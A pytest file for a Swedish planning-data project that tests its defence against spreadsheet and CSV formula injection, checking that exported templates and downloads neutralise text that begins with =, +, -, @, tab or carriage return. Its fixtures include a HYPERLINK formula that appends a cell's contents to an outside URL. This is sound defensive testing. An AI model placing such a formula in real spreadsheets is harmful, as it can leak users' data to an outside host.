"""Nothing the project writes into a spreadsheet or a CSV file can run as a formula (issue
19, class 1). Plan text, indicator labels and assessments that begin like a formula are put
into a copy of the data; the templates sent to the committees and the unit (read back with
openpyxl) have only text cells, and every CSV file of the downloads follows the one rule
(an apostrophe before a text field that begins with = + - @, tab or carriage return; never
in a number column). ``trygghet validate`` warns about such text, and passes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
import yaml

from tests.helpers import csv_fields_like_formulas, formula_cells, spreadsheet_cells
from trygghet.cli import main
from trygghet.data.project import Project
from trygghet.data.untrusted import csv_text, formula_warnings, text_from_csv
from trygghet.intake import assessments, status_template, values_template
from trygghet.present.csv_files import csv_bytes
from trygghet.present.downloads import data_package_files
from trygghet.present.national_page import positions_csv

YEAR = 2023  # an edition with a goal assessment (data/goals/bedomning-2023.csv)
HYPERLINK = '=HYPERLINK("http://example.org/"&B3,"Klicka här")'
COMMITTEE = "=1+1"
LABEL = "@SUM(1+1) Tillit bland barn"
MEASURE = "=1+1 unga som är nöjda med sin fritid"
SERIES = "-Avsaknad av tillit (serie)"
MINUS = "-2+3 är analysen, som börjar med ett minustecken"
PLUS = "+46 21 39 00 00 ringde vi, och analysen börjar med plus"


def edit_yaml(path: Path, change) -> None:
    content = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(content)
    path.write_text(yaml.safe_dump(content, allow_unicode=True, sort_keys=False),
                    encoding="utf-8")


@pytest.fixture
def data(data_copy: Path) -> Path:
    """The project's data with texts that begin like formulas: an activity's text and a
    goal (``=HYPERLINK``), the name of the committee that leads it (``=1+1``), an indicator's
    label in the plan and its measure (``@``), another measure (``=``), a series label (``-``) and two analyses of
    the 2023 assessment (``-`` and ``+``)."""
    plan = data_copy / "plan"
    committees = yaml.safe_load((plan / "committees.yml").read_text(encoding="utf-8"))

    def focus_area(fa: dict) -> None:
        fa["activities"][0]["text"] = HYPERLINK
        fa["goals"][0]["text"] = HYPERLINK
        next(i for i in fa["indicators"] if i["id"] == "tillit-barn")["name"] = LABEL
        lead = fa["activities"][0]["lead"]
        next(c for c in committees if c["id"] == lead)["name"] = COMMITTEE

    edit_yaml(plan / "fokusomrade-1.yml", focus_area)
    (plan / "committees.yml").write_text(yaml.safe_dump(committees, allow_unicode=True,
                                                        sort_keys=False), encoding="utf-8")
    edit_yaml(data_copy / "indicators" / "tillit-barn.yml",
              lambda meta: meta.update(measure=LABEL))
    edit_yaml(data_copy / "indicators" / "unga-nojda-fritid.yml",
              lambda meta: meta.update(measure=MEASURE))
    edit_yaml(data_copy / "indicators" / "tillit-vuxna.yml",
              lambda meta: meta["series"][0].update(label=SERIES))
    path = data_copy / "goals" / f"bedomning-{YEAR}.csv"
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    rows[0]["analysis"], rows[1]["analysis"] = MINUS, PLUS
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    return data_copy


def assert_only_text(paths: list[Path], *expected: str) -> None:
    """No cell of the workbooks is a formula, and each ``expected`` text is a cell's value.
    A text that begins like a formula has Excel's quote prefix: it stays text when edited."""
    assert formula_cells(paths) == []
    cells = [c for p in paths for c in spreadsheet_cells(p)]
    values = {c.value for c in cells}
    assert [e for e in expected if e not in values] == []
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    unprefixed = [c.value for c in cells if isinstance(c.value, str)
                  and c.value.startswith(("=", "+", "-", "@")) and not c.quotePrefix]
    assert unprefixed == []


def test_the_committees_status_templates_have_no_formula(data, tmp_path):
    written = status_template.write_templates(data, YEAR, tmp_path / "mallar")
    assert_only_text(written, HYPERLINK, COMMITTEE)


def test_the_indicator_value_template_has_no_formula(data, tmp_path):
    written = values_template.write_template(data, YEAR, tmp_path / "mallar")
    assert_only_text([written], f"{LABEL} (procent)", f"{MEASURE} (procent)")  # headings


def test_the_assessment_template_has_no_formula(data, tmp_path):
    written = assessments.write_template(data, YEAR, tmp_path / "mallar")
    assert_only_text([written], HYPERLINK)


def rows_of(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_every_csv_of_the_data_package_neutralises_text_that_begins_like_a_formula(data):
    files = data_package_files(Project.load(data, YEAR), YEAR)
    goals = {r["goal"]: r for r in rows_of(files["data/malbedomning.csv"])}
    assert goals["M1.1"]["goal_text"] == "'" + HYPERLINK
    assert goals["M1.1"]["analysis"] == "'" + MINUS
    assert goals["M1.2"]["analysis"] == "'" + PLUS
    assert goals["M1.1"]["year"] == str(YEAR)
    development = rows_of(files["data/utveckling.csv"])
    assert {r["measure"] for r in development if r["indicator"] == "tillit-barn"} == {"'" + LABEL}
    values = rows_of(files["data/tillit-vuxna.csv"])
    assert {r["series_label"] for r in values if r["series"] == "U01413"} == {"'" + SERIES}
    # No field of any CSV file in the package begins like a formula, and the numbers
    # (negative changes among them) are numbers.
    for name, content in files.items():
        if name.endswith(".csv"):
            assert csv_fields_like_formulas(content) == [], name
    negative = [r["change"] for r in development if r["change"].startswith("-")]
    assert negative and all(float(v) < 0 for v in negative)
    assert "apostrof" in files["datapackage.json"].decode()  # the rule is stated


def test_the_national_positions_csv_neutralises_an_area_name_not_a_negative_value():
    ranks = pd.DataFrame([{"indicator": "x", "year": 2023, "area_code": "0180",
                           "area_name": HYPERLINK, "value": -3.1, "rank": 1, "n": 2,
                           "percentile": 0.5}])
    row = rows_of(positions_csv(ranks))[0]
    assert row["area_name"] == "'" + HYPERLINK
    assert row["value"] == "-3.1"


def test_the_rule_is_decided_by_the_column_type_and_can_be_undone():
    content = csv_bytes([("text", "string"), ("number", "number")],
                        [["-3,1", "-3.1"], ["@a", "1"], ["\tx", "2"], ["\rx", "3"], ["'=x", "4"],
                         ["'hej'", "5"], ["Hej = då", "6"]])
    rows = [[r["text"], r["number"]] for r in rows_of(content)]
    assert rows == [["'-3,1", "-3.1"], ["'@a", "1"], ["'\tx", "2"], ["'\rx", "3"],
                    ["''=x", "4"], ["'hej'", "5"], ["Hej = då", "6"]]
    for original in ["-3,1", "@a", "=x", "'=x", "''+x", "'hej'", "Hej", "", "'"]:
        assert text_from_csv(csv_text(original)) == original


def test_validate_warns_about_text_that_begins_like_a_formula_and_passes(data, capsys):
    assert main(["--root", str(data.parent), "validate"]) == 0
    err = capsys.readouterr().err
    assert "committees.yml" in err and "'=1+1'" in err
    assert "fokusomrade-1.yml" in err and "HYPERLINK" in err
    assert f"bedomning-{YEAR}.csv" in err and "'-'" in err
    warned = {(w.file.name, w.column) for w in formula_warnings(data)}
    assert ("tillit-barn.yml", "measure") in warned
    # numbers in CSV files are not text
    assert not [w for w in formula_warnings(data) if w.column == "value"]
